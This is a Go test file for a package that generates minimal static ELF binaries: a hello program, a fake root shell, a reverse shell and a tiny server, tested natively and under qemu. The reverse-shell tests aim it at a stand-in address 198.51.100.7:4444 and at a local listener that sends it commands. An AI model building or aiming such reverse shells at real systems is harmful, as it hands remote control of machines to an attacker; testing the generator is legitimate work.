package tinyelf_test

import (
	"bytes"
	"debug/elf"
	"errors"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/sallyport-dev/sallyport/internal/testenv"
	"github.com/sallyport-dev/sallyport/internal/tinyelf"
)

var architectures = map[string]struct {
	machine elf.Machine
	qemu    string
}{
	"amd64": {elf.EM_X86_64, "qemu-x86_64-static"},
	"arm64": {elf.EM_AARCH64, "qemu-aarch64-static"},
}

// each runs test once per CPU, with a function that makes a command of a
// program: directly on this CPU, under qemu's user mode on the other.
func each(t *testing.T, test func(t *testing.T, arch string, command func(program []byte) *exec.Cmd)) {
	for arch, cpu := range architectures {
		t.Run(arch, func(t *testing.T) {
			test(t, arch, func(program []byte) *exec.Cmd {
				path := filepath.Join(t.TempDir(), "program")
				if err := os.WriteFile(path, program, 0o755); err != nil {
					t.Fatal(err)
				}
				if arch == runtime.GOARCH {
					return exec.Command(path)
				}
				return exec.Command(testenv.NeedCommand(t, cpu.qemu), path) // Debian: qemu-user-static
			})
		})
	}
}

func TestEveryProgramIsAStaticExecutable(t *testing.T) {
	to := netip.MustParseAddrPort("198.51.100.7:4444")
	for arch, cpu := range architectures {
		programs := map[string]func() ([]byte, error){
			"hello":         func() ([]byte, error) { return tinyelf.Hello(arch, "hello\n") },
			"shell":         func() ([]byte, error) { return tinyelf.Shell(arch, "uid=0(root)\n") },
			"reverse shell": func() ([]byte, error) { return tinyelf.ReverseShell(arch, to) },
			"server":        func() ([]byte, error) { return tinyelf.Server(arch, 8080, "page", 3) },
		}
		for name, program := range programs {
			t.Run(arch+" "+name, func(t *testing.T) {
				b, err := program()
				if err != nil {
					t.Fatal(err)
				}
				f, err := elf.NewFile(bytes.NewReader(b))
				if err != nil {
					t.Fatal(err)
				}
				if f.Machine != cpu.machine || f.Type != elf.ET_EXEC || f.Class != elf.ELFCLASS64 {
					t.Errorf("machine %v, type %v, class %v", f.Machine, f.Type, f.Class)
				}
				if len(f.Progs) != 1 || f.Progs[0].Type != elf.PT_LOAD {
					t.Fatalf("program headers %v, want one PT_LOAD", f.Progs)
				}
				if load := f.Progs[0]; load.Filesz != uint64(len(b)) || f.Entry < load.Vaddr || f.Entry >= load.Vaddr+load.Memsz {
					t.Errorf("%d bytes, entry %#x, segment %+v", len(b), f.Entry, load.ProgHeader)
				}
			})
		}
	}
}

func TestHelloPrintsAndSucceeds(t *testing.T) {
	each(t, func(t *testing.T, arch string, command func([]byte) *exec.Cmd) {
		for _, text := range []string{"hello\n", "", strings.Repeat("long ", 5000)} {
			program, err := tinyelf.Hello(arch, text)
			if err != nil {
				t.Fatal(err)
			}
			out, err := command(program).Output()
			if err != nil || string(out) != text {
				t.Errorf("printed %.40q and ended with %v, want %.40q", out, err, text)
			}
		}
	})
}

func TestShellAnswersWhateverItIsAsked(t *testing.T) {
	each(t, func(t *testing.T, arch string, command func([]byte) *exec.Cmd) {
		program, err := tinyelf.Shell(arch, "uid=0(root)\n")
		if err != nil {
			t.Fatal(err)
		}
		for _, input := range []string{"id\n", ""} {
			cmd := command(program)
			cmd.Stdin = strings.NewReader(input)
			out, err := cmd.Output()
			if err != nil || string(out) != "uid=0(root)\n" {
				t.Errorf("asked %q: %q, %v", input, out, err)
			}
		}
	})
}

func TestReverseShellHandsAShellToWhomItDials(t *testing.T) {
	each(t, func(t *testing.T, arch string, command func([]byte) *exec.Cmd) {
		ln, err := net.Listen("tcp4", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		program, err := tinyelf.ReverseShell(arch, netip.MustParseAddrPort(ln.Addr().String()))
		if err != nil {
			t.Fatal(err)
		}
		cmd := command(program)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		defer cmd.Process.Kill()
		conn, err := ln.Accept()
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(time.Minute))
		io.WriteString(conn, "echo to $((40+2)); echo and errors >&2; exit 7\n")
		said, err := io.ReadAll(conn)
		if err != nil || string(said) != "to 42\nand errors\n" {
			t.Errorf("the shell said %q, %v", said, err)
		}
		if err := cmd.Wait(); cmd.ProcessState.ExitCode() != 7 {
			t.Errorf("ended with %v, want the shell's own status 7", err)
		}
	})
}

func TestReverseShellFailsWhenNobodyListens(t *testing.T) {
	each(t, func(t *testing.T, arch string, command func([]byte) *exec.Cmd) {
		program, err := tinyelf.ReverseShell(arch, closedPort(t))
		if err != nil {
			t.Fatal(err)
		}
		if err := command(program).Run(); err == nil || err.Error() != "exit status 1" {
			t.Errorf("ended with %v, want exit status 1", err)
		}
	})
}

func TestServerAnswersSoManyTimes(t *testing.T) {
	each(t, func(t *testing.T, arch string, command func([]byte) *exec.Cmd) {
		at := closedPort(t)
		program, err := tinyelf.Server(arch, at.Port(), "HTTP/1.0 200 OK\r\n\r\nhello", 3)
		if err != nil {
			t.Fatal(err)
		}
		cmd := command(program)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		defer cmd.Process.Kill()
		for served := 0; served < 3; {
			conn, err := net.DialTimeout("tcp4", at.String(), time.Second)
			if err != nil {
				time.Sleep(10 * time.Millisecond) // not listening yet
				continue
			}
			io.WriteString(conn, "GET / HTTP/1.0\r\n\r\n")
			page, err := io.ReadAll(conn)
			conn.Close()
			if err != nil || !strings.HasSuffix(string(page), "hello") {
				t.Fatalf("page %d: %q, %v", served, page, err)
			}
			served++
		}
		if err := cmd.Wait(); err != nil {
			t.Error(err)
		}
	})
}

func TestRefusals(t *testing.T) {
	if _, err := tinyelf.Hello("riscv64", "x"); !errors.Is(err, tinyelf.ErrArch) {
		t.Errorf("riscv64: %v, want ErrArch", err)
	}
	if _, err := tinyelf.ReverseShell("amd64", netip.MustParseAddrPort("[2001:db8::1]:1")); err == nil {
		t.Error("an IPv6 address was taken")
	}
	if _, err := tinyelf.Server("amd64", 1, "", 0); err == nil {
		t.Error("a server for no connection was made")
	}
}

// closedPort is an address of this machine where nobody listens.
func closedPort(t *testing.T) netip.AddrPort {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return netip.MustParseAddrPort(ln.Addr().String())
}
